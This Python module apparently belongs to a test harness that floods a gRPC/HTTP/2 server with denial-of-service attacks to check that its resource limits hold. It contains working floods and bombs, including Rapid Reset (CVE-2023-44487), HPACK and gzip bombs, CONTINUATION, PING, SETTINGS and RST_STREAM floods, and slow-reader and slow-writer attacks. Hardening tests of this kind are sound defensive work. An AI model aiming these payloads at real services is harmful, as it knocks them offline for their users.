"""Every attack: what is sent, which limit it runs into, and with what it is answered."""

import dataclasses
import gzip
import ssl
import time
import typing

from spelling import (
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, PRIORITY, RST_STREAM,
    SETTINGS, WINDOW_UPDATE, call_block, frame, get_block, greeting, literal, message, number,
    opened, priority,
)

LARGEST_WINDOW = 2**31 - 1


@dataclasses.dataclass(frozen=True)
class Attack:
    name: str
    run: typing.Callable
    # The limit, as the metric's label; several when any may be the one that holds.
    limits: tuple
    # How the server answers, as the attacker counts it; one of these must have come.
    answers: tuple
    # What `apus serve` is started with, where the attack needs another server than the others.
    flags: tuple = ()
    # Whether it comes by the TLS listener; there is a neighbour on each then.
    secure: bool = False


ATTACKS = []


def attack(limits, answers, flags=(), secure=False):
    def add(run):
        ATTACKS.append(Attack(
            run.__name__.replace("_", " "), run, tuple(limits.split()), tuple(answers), flags,
            secure,
        ))
        return run
    return add


CALM = ["GOAWAY ENHANCE_YOUR_CALM"]
REFUSED = ["closed", "reset"]

# Connections


@attack("connections", REFUSED, flags=("--max-connections", "500"))
def connection_flood(assault):
    """More than the server takes, each with its preface, all held."""
    assault.hold(
        [wire for _ in range(600) if (wire := greeted(assault))], lambda: greeted(assault)
    )


@attack("connections_per_peer", REFUSED,
        flags=("--max-connections-per-peer", "200"))
def connection_flood_of_one_peer(assault):
    """The same, where one address may have fewer."""
    assault.hold(
        [wire for _ in range(300) if (wire := greeted(assault))], lambda: greeted(assault)
    )


def greeted(assault):
    wire = assault.connect()
    if wire:
        wire.send(greeting())
    return wire


@attack("handshake_time handshakes", REFUSED, secure=True,
        flags=("--handshake-timeout", "1s", "--max-handshakes", "100"))
def TLS_handshake_stall(assault):
    """Connections that say nothing, half a ClientHello, or a whole one and no more."""
    hello = client_hello()
    def made(count=[0]):
        wire = assault.connect()
        count[0] += 1
        if wire:
            wire.send((b"", hello[:len(hello) // 2], hello)[count[0] % 3])
        return wire
    assault.hold([wire for _ in range(200) if (wire := made())], made)


def client_hello():
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    context = ssl.create_default_context()
    context.set_alpn_protocols(["h2"])
    try:
        context.wrap_bio(incoming, outgoing, server_hostname="localhost").do_handshake()
    except ssl.SSLWantReadError:
        return outgoing.read()


@attack("handshake_time", REFUSED, flags=("--handshake-timeout", "1s"))
def handshake_stall(assault):
    """Connections that say nothing, and some that stop within the preface."""
    def made(count=[0]):
        wire = assault.connect()
        count[0] += 1
        if wire and count[0] % 2:
            wire.send(PREFACE[:10])
        return wire
    assault.hold([wire for _ in range(200) if (wire := made())], made)


# Header lists


@attack("header_list", CALM + ["answers"])
def header_count(assault):
    """Thousands of fields of a byte each."""
    block = call_block(b"Health", *[(b"a", b"")] * 3000)
    assault.flood(greeting(), lambda turn: opened(block, 1 + 20 * turn, 10))


@attack("header_list", CALM + ["answers"])
def header_bytes(assault):
    """Fields of 15,000 bytes, over several frames."""
    field = literal(b"x-filler", b"v" * 15_000)
    def request(turn):
        stream = 1 + 2 * turn
        return (
            frame(HEADERS, END_STREAM, stream, call_block(b"Health"))
            + frame(CONTINUATION, 0, stream, field) * 4
            + frame(CONTINUATION, END_HEADERS, stream, field)
        )
    assault.flood(greeting(), request)


@attack("header_list", CALM)
def HPACK_bomb(assault):
    """A field of 4,000 bytes into the table, then 16,000 times by one byte each: 64 MB."""
    entry = b"\x40" + literal(b"x", b"v" * 3_900)[1:]
    def bomb(turn):
        return frame(HEADERS, END_HEADERS | END_STREAM, 3 + 2 * turn,
                     call_block(b"Health") + b"\xbe" * 16_000)
    assault.flood(
        greeting() + frame(HEADERS, END_HEADERS | END_STREAM, 1, call_block(b"Health") + entry),
        bomb,
    )


@attack("continuations", CALM)
def CONTINUATION_flood(assault):
    """One header block that never ends."""
    assault.flood(
        greeting() + frame(HEADERS, END_STREAM, 1, get_block()),
        frame(CONTINUATION, 0, 1, b"") * 1000,
    )


# Streams


@attack("concurrent_streams", ["RST_STREAM REFUSED_STREAM", "GOAWAY PROTOCOL_ERROR"])
def streams_over_the_limit(assault):
    """Calls that never send their message."""
    block = call_block(b"Health")
    assault.flood(greeting(), lambda turn: opened(block, 1 + 1000 * turn, 500, end=False))


@attack("stream_resets", CALM)
def rapid_reset(assault):
    """CVE-2023-44487: calls that are taken back at once."""
    block = call_block(b"Health")
    body = message(b"")
    def calls(turn):
        pieces = []
        for stream in range(1 + 400 * turn, 401 + 400 * turn, 2):
            pieces += [
                frame(HEADERS, END_HEADERS, stream, block), frame(DATA, END_STREAM, stream, body),
                frame(RST_STREAM, 0, stream, number(8)),
            ]
        return b"".join(pieces)
    assault.flood(greeting(), calls)


@attack("stream_resets", CALM + ["GOAWAY PROTOCOL_ERROR"])
def RST_STREAM_flood(assault):
    """Resets of streams that have long ended."""
    assault.flood(
        greeting() + opened(get_block(), 1, 100),
        b"".join(frame(RST_STREAM, 0, stream, number(8)) for stream in range(1, 201, 2)) * 5,
    )


@attack("stream_resets empty_frames", CALM + ["GOAWAY PROTOCOL_ERROR"])
def RST_STREAM_flood_on_idle_streams(assault):
    """Resets of streams that never were."""
    assault.flood(
        greeting(), b"".join(frame(RST_STREAM, 0, s, number(8)) for s in range(1, 2001, 2))
    )


# Frames that carry nothing


@attack("empty_frames", CALM)
def empty_DATA_flood(assault):
    """CVE-2019-9518."""
    opening = greeting() + frame(HEADERS, END_HEADERS, 1, call_block(b"Publish"))
    assault.flood(opening, frame(DATA, 0, 1) * 1000)


@attack("empty_frames", CALM)
def padded_DATA_flood(assault):
    """Frames of padding alone."""
    opening = greeting() + frame(HEADERS, END_HEADERS, 1, call_block(b"Publish"))
    assault.flood(opening, frame(DATA, 8, 1, b"\x03\0\0\0") * 1000)


@attack("pings empty_frames", CALM)
def PING_flood(assault):
    """CVE-2019-9512, without reading the answers."""
    assault.flood(greeting(), frame(PING, 0, 0, b"8 octets") * 1000, reads=False)


@attack("empty_frames", CALM)
def SETTINGS_flood(assault):
    """CVE-2019-9515."""
    assault.flood(greeting(), frame(SETTINGS) * 1000)


@attack("empty_frames", CALM)
def PRIORITY_flood(assault):
    """CVE-2019-9513: streams that go round and round in a tree."""
    assault.flood(greeting(), b"".join(
        frame(PRIORITY, 0, stream, priority(stream + 2, exclusive=True))
        for stream in range(1, 2001, 2)
    ))


@attack("empty_frames", CALM)
def WINDOW_UPDATE_flood(assault):
    """Windows opened for nobody, byte by byte."""
    assault.flood(greeting(), frame(WINDOW_UPDATE, 0, 0, number(1)) * 1000)


# Slow peers


@attack("empty_frames slow_response keep_alive connection_output", CALM + REFUSED,
        flags=("--progress-interval", "1s"))
def slow_reader(assault):
    """Answers taken byte by byte: windows of 1, opened by 1. Reflection's answers are large, and no
    database has to be asked for them."""
    block = call_block(
        b"ServerReflectionInfo", service=b"grpc.reflection.v1.ServerReflection")
    symbol = b"apus.v1.EventService"
    question = message(b"\x22" + bytes([len(symbol)]) + symbol)
    opening = greeting(INITIAL_WINDOW_SIZE=1) + opened(block, 1, 100, then=question)
    sips = b"".join(frame(WINDOW_UPDATE, 0, stream, number(1)) for stream in range(1, 201, 2))
    assault.flood(opening, sips, each=0.1)


@attack("slow_request frame_time", ["answers", "RST_STREAM CANCEL", *CALM],
        flags=("--progress-interval", "1s"))
def slow_writer(assault):
    """Bodies trickled byte by byte, on many streams."""
    streams = range(1, 1001, 2)
    block = call_block(b"Publish")
    opening = greeting() + b"".join(
        frame(HEADERS, END_HEADERS, stream, block)
        + frame(DATA, 0, stream, message(b"x", length=1_000_000))
        for stream in streams
    )
    sips = b"".join(frame(DATA, 0, stream, b"x") for stream in streams)
    assault.flood(opening, sips, each=0.2)


@attack("connection_output memory keep_alive slow_response", REFUSED + CALM + ["answers"])
def hoarded_output(assault):
    """Large answers that are asked for and never read: pages of 1,000 events."""
    block, page = call_block(b"ListEvents"), message(b"\x28\xe8\x07")
    opening = greeting(INITIAL_WINDOW_SIZE=LARGEST_WINDOW) \
        + frame(WINDOW_UPDATE, 0, 0, number(LARGEST_WINDOW - 65_535)) \
        + opened(block, 1, 30, then=page)
    assault.flood(
        opening, lambda turn: opened(block, 61 + 2 * turn, 1, then=page), reads=False, each=0.05,
    )


# Messages


@attack("message_bytes", ["answers"])
def huge_message_declared(assault):
    """Two gigabytes announced, and some sent."""
    block = call_block(b"Publish")
    body = message(b"x" * 1000, length=2**31)
    assault.flood(
        greeting(), lambda turn: opened(block, 1 + 200 * turn, 100, end=False, then=body)
    )


@attack("bombs", CALM)
def compression_bomb(assault):
    """16 MiB of zeros in 16 KB, as a compressed message."""
    block = call_block(b"Publish", (b"grpc-encoding", b"gzip"))
    bomb = gzip.compress(bytes(16 << 20))
    body = message(bomb, flag=1)
    first, rest = body[:16_384], body[16_384:]

    def calls(turn):
        stream = 1 + 2 * turn
        return frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, 0, stream, first) \
            + frame(DATA, END_STREAM, stream, rest)
    assault.flood(greeting(), calls)


@attack("memory", ["answers", *CALM])
def publishes_in_flight(assault):
    """Bodies of 4 MB, all but their end, on many connections."""
    bodies(assault, 4_000_000)


@attack("memory", ["answers", *CALM])
def whole_requests_without_end(assault):
    """The same with all of each message, on streams that go on."""
    bodies(assault, 241 * 16_384 - 5)


def bodies(assault, length):
    """241 frames of the largest size on each stream."""
    block = call_block(b"Publish")
    piece = b"x" * 16_384

    def made():
        wire = greeted(assault)
        if not wire:
            return None
        chunks = []
        for stream in range(1, 65, 2):
            chunks += [frame(HEADERS, END_HEADERS, stream, block),
                       frame(DATA, 0, stream, message(piece[5:], length=length))]
        wire.send(b"".join(chunks))
        return wire

    wires = [wire for _ in range(40) if (wire := made())]
    turn = 0
    while not assault.is_over:
        for wire in wires:
            if not wire.ended and wire.push():
                wire.send(b"".join(
                    frame(DATA, 0, stream, piece) for stream in range(1, 65, 2)
                ) if turn < 240 else b"")
            wire.drain()
        wires = [wire if not wire.ended else made() for wire in wires]
        wires = [wire for wire in wires if wire]
        turn += 1
        time.sleep(0.01)


@attack("memory", ["answers", *CALM])
def unfinished_messages(assault):
    """Very many messages that begin, so that what is kept ready for the rest of them adds up."""
    block = call_block(b"Publish")
    streams = range(1, 1001, 2)
    opening = b"".join(
        frame(HEADERS, END_HEADERS, stream, block)
        + frame(DATA, 0, stream, message(b"x" * 1_100, length=1_000_000))
        for stream in streams
    ) + b"".join(frame(DATA, 0, stream, b"x") for stream in streams)

    def made():
        wire = greeted(assault)
        if wire:
            wire.send(opening)
        return wire

    wires = [wire for _ in range(30) if (wire := made())]
    while not assault.is_over:
        for wire in wires:
            wire.push()
        assault.wait(wires)
        wires = [wire if not wire.ended else made() for wire in wires]
        wires = [wire for wire in wires if wire]
